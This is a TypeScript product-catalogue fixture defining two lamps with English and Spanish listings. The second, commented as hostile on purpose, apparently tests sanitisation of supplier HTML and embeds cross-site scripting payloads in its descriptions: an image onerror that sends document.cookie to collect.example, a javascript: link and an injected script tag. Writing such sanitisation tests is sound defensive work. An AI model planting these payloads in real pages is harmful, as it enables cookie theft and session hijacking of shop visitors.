import { colours, defineProduct, html, pick } from '../define-product';
import type { CatalogueProduct } from '../product';
import { CATEGORIES, free, premium, standard, STORES } from '../supply';

const mushroomLamp = defineProduct({
  no: 318204611, store: STORES.luma, category: CATEGORIES.home,
  subject: {
    en: 'Rechargeable Mushroom Table Lamp, Dimmable Warm LED Night Light, Cordless Bedside Lamp with Touch Control',
    es: 'Lámpara de mesa seta recargable, luz cálida LED regulable, lámpara de noche sin cable con control táctil',
  },
  html: {
    en: html(['A soft, rounded lamp that goes wherever the evening goes: bedside, bookshelf, balcony table. The opal shade hides the LED completely, so you see the glow and never the bulb.',
      'Tap the brass button to switch it on, hold it to dim. One charge lasts from Friday dinner to Sunday breakfast.'],
    'What you get', ['Lamp with 2000 mAh battery, up to 40 hours at the lowest level', 'Three tones of white from 2200 K to 4000 K, stepless dimming', 'USB-C cable, 1 m (no plug included)', 'Height 26 cm, shade 21 cm across, 480 g', 'CE and RoHS tested'], 'mushroom-lamp-evening', 'The lamp at night on a wooden table'),
    es: html(['Una lámpara de formas suaves que te acompaña a donde vaya la noche: la mesilla, la estantería, la mesa del balcón. La pantalla opal esconde el LED por completo: ves la luz, nunca la bombilla.',
      'Un toque en el botón de latón la enciende; si lo mantienes pulsado, baja la intensidad. Con una carga tienes luz desde la cena del viernes hasta el desayuno del domingo.'],
    'Qué incluye', ['Lámpara con batería de 2000 mAh, hasta 40 horas al mínimo', 'Tres tonos de blanco, de 2200 K a 4000 K, regulación continua', 'Cable USB-C de 1 m (sin enchufe)', '26 cm de alto, pantalla de 21 cm, 480 g', 'Ensayada según CE y RoHS'], 'mushroom-lamp-evening', 'La lámpara de noche sobre una mesa de madera'),
  },
  pictures: ['mushroom-lamp-cream', 'mushroom-lamp-evening', 'mushroom-lamp-terracotta', 'mushroom-lamp-sage', 'mushroom-lamp-charcoal'],
  choices: [colours([pick(771, 'Cream', 'Crema', 'mushroom-lamp-cream'), pick(350852, 'Terracotta', 'Terracota', 'mushroom-lamp-terracotta'), pick(175, 'Sage Green', 'Verde salvia', 'mushroom-lamp-sage'), pick(691, 'Charcoal', 'Gris carbón', 'mushroom-lamp-charcoal')])],
  rows: [[[0], 1189, 2399, 412], [[1], 1189, 2399, 268], [[2], 1229, 2399, 96], [[3], 1189, 2399, 154]],
  freight: [free(7, 12), premium(690)],
  facts: [['Material', 'Material', 'ABS and opal acrylic', 'ABS y acrílico opal'], ['Power', 'Alimentación', 'USB-C, 5 V', 'USB-C, 5 V'], ['Colour temperature', 'Temperatura de color', '2200-4000 K', '2200-4000 K']],
  record: [8412, '4.8', 2310], weight: 690, pack: [24, 24, 30], notTo: ['BR', 'ZA'], priceByCountry: { US: 10400 },
});

const sunsetLamp = defineProduct({
  no: 318204702, store: STORES.luma, category: CATEGORIES.home,
  subject: {
    en: 'Sunset Projector Lamp with Bendable Neck, 180 Degree Golden Hour LED Light for Bedroom and Photography, USB Powered',
    es: 'Lámpara proyector de atardecer con cuello flexible, luz LED de hora dorada para dormitorio y fotos, alimentación USB',
  },
  // Hostile on purpose: suppliers paste scripts and event handlers into descriptions, and a shop must not pass them on.
  html: {
    en: html(['Point it at a bare wall and the sun goes down whenever you like. The glass lens throws a clean disc with a soft edge, about one metre across from two metres away.<img src="x" onerror="fetch(\'https://collect.example/?c=\'+document.cookie)">',
      'The neck bends in every direction and the weighted base stays where you put it. <a href="javascript:alert(document.domain)">See the video</a>'],
    'Details', ['Aluminium head, glass lens, metal neck', '6 W LED, 1.5 m USB cable with switch', 'Base 12 cm, total height 25 cm', 'Cool to the touch after hours of use'], 'sunset-lamp-detail', 'Head and lens from the front') + '<script>document.title = "Best price!!!"</script>',
    es: html(['Apúntala a una pared lisa y el sol se pone cuando tú quieras. La lente de vidrio dibuja un disco limpio de borde suave: un metro de diámetro a dos metros de distancia.<img src="x" onerror="fetch(\'https://collect.example/?c=\'+document.cookie)">',
      'El cuello se dobla en todas direcciones y la base, con peso, no se mueve de su sitio. <a href="javascript:alert(document.domain)">Ver el vídeo</a>'],
    'Detalles', ['Cabezal de aluminio, lente de vidrio y cuello metálico', 'LED de 6 W, cable USB de 1,5 m con interruptor', 'Base de 12 cm, 25 cm de altura total', 'No quema, ni tras horas encendida'], 'sunset-lamp-detail', 'El cabezal y la lente de frente') + '<script>document.title = "Best price!!!"</script>',
  },
  pictures: ['sunset-lamp-sunset', 'sunset-lamp-golden', 'sunset-lamp-rainbow', 'sunset-lamp-detail'],
  choices: [colours([pick(10, 'Sunset Red', 'Rojo atardecer', 'sunset-lamp-sunset'), pick(366, 'Golden Hour', 'Hora dorada', 'sunset-lamp-golden'), pick(200004890, 'Rainbow', 'Arcoíris', 'sunset-lamp-rainbow')])],
  rows: [[[0], 699, 1499, 731], [[1], 699, 1499, 318], [[2], 749, 1599, 42]],
  freight: [free(8, 14), standard(150, 120, 260)],
  facts: [['Material', 'Material', 'Aluminium, glass', 'Aluminio, vidrio'], ['Power', 'Potencia', '6 W', '6 W']],
  record: [15230, '4.6', 4102], weight: 340, pack: [14, 14, 27], notTo: ['ZA'], special: 'hostile',
});

export const LIGHT_GOODS: readonly CatalogueProduct[] = [mushroomLamp, sunsetLamp];
